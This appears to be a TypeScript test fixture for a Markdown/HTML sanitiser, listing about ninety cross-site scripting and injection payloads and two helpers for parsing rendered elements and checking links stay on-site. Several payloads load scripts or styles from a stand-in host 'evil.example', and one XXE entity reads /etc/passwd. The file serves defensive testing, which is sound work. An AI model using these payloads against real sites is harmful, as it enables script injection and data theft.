/**
 * Texts by which others have made pages run what was in them: ours, after the kinds of OWASP's list. And what
 * a page is made of, to see that it does not.
 */
const SCRIPT = 'alert(1)'
export const HOSTILE = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img/src="x"/onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD4=">`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<a href="jav&#x09;ascript:${SCRIPT}">x</a>`,
  `<body onload=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<style>@import url(//evil.example/x.css)</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><input name=q></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<p style="background:url(javascript:${SCRIPT})">x</p>`,
  `[x](javascript:${SCRIPT})`,
  `[x](JaVaScRiPt:${SCRIPT})`,
  `[x](java\tscript:${SCRIPT})`,
  `[x](&#106;avascript:${SCRIPT})`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>${SCRIPT}</script>)`,
  `[x](data:image/svg+xml;base64,PHN2Zz4=)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example)`,
  `![x](javascript:${SCRIPT})`,
  `![x](https://evil.example/pixel.png)`,
  `![x" onerror="${SCRIPT}](https://evil.example/pixel.png)`,
  `![x](https://evil.example/"onerror="${SCRIPT})`,
  `[x](https://a.example/ "t\\" onclick=\\"${SCRIPT}")`,
  `<javascript:${SCRIPT}>`,
  `<https://a.example/"onclick="${SCRIPT}>`,
  `[a]: javascript:${SCRIPT}\n\n[x][a]`,
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onload="alert(1)\ncode\n```',
  `\`<img src=x onerror=${SCRIPT}>\``,
  `# <img src=x onerror=${SCRIPT}>`,
  `| <svg onload=${SCRIPT}> |\n|---|\n| [x](javascript:${SCRIPT}) |`,
  `<x onclick=${SCRIPT}>text</x>`,
  `<a href="https://a.example" target=_blank rel=opener>x</a>`,
  `[x](https://a.example/?a=1&b=<script>)`,
  `\u0000<script>${SCRIPT}</script>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${SCRIPT}>#x">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  `<video poster=javascript:${SCRIPT} src=x onerror=${SCRIPT}></video>`,
  `<img srcset="//evil.example/x 2x">`,
  `<marquee onstart=${SCRIPT}>x</marquee>`,
  `<table background="javascript:${SCRIPT}"><tr><td>x</table>`,
  `<div style="width:expression(${SCRIPT})">x</div>`,
  `<object type="text/x-scriptlet" data="//evil.example/x"></object>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<textarea><img src=x onerror=${SCRIPT}></textarea>`,
  `<title><img src=x onerror=${SCRIPT}></title>`,
  `</main></html><script>${SCRIPT}</script>`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `]]></description><script>${SCRIPT}</script>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!-- --!><img src=x onerror=${SCRIPT}> -->`,
  `<scr\ufffdipt>${SCRIPT}</scr\ufffdipt>`,
  `\uff1cscript\uff1e${SCRIPT}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
  `"-${SCRIPT}-"`,
  `';${SCRIPT}//`,
  `\u2028${SCRIPT}\u2029</script>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `# __proto__\n\n# constructor\n\n# location`,
  `<a name=body id=cookie href=#>x</a>`,
  `<a href="https://a.example" onmouseover=${SCRIPT}>x</a>`,
  `[x](javascript&colon;${SCRIPT})`,
  `[x](java&NewLine;script:${SCRIPT})`,
  `[x](\u0001javascript:${SCRIPT})`,
  `[x](java%0ascript:${SCRIPT})`,
  `[x](<javascript:${SCRIPT}>)`,
  `[x](\\\\evil.example)`,
  `[x](blob:https://a.example/1)`,
  `[x](https://a.example@evil.example/)`,
  `![x](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
  `[![x](javascript:${SCRIPT})](javascript:${SCRIPT})`,
  `<javascript&colon;${SCRIPT}>`,
  `[a]: <javascript:${SCRIPT}> 'x" onclick="${SCRIPT}'\n\n[x][a]`,
]

export function elementsOf(html: string) {
  const elements: { tag: string; attributes: Record<string, string> }[] = []
  const rewriter = new HTMLRewriter().on('*', {
    element: ({ tagName, attributes }) => {
      elements.push({ tag: tagName, attributes: Object.fromEntries(attributes) })
    },
  })
  rewriter.transform(html)
  return elements
}

/** Whether a browser that follows it from a page of ours stays there, or goes where it says openly. */
export function isPlainLink(href: string): boolean {
  if (/^(https?:\/\/|mailto:|#)/.test(href)) return true
  const here = 'https://page.example'
  return URL.parse(href, `${here}/a/b`)?.origin === here
}
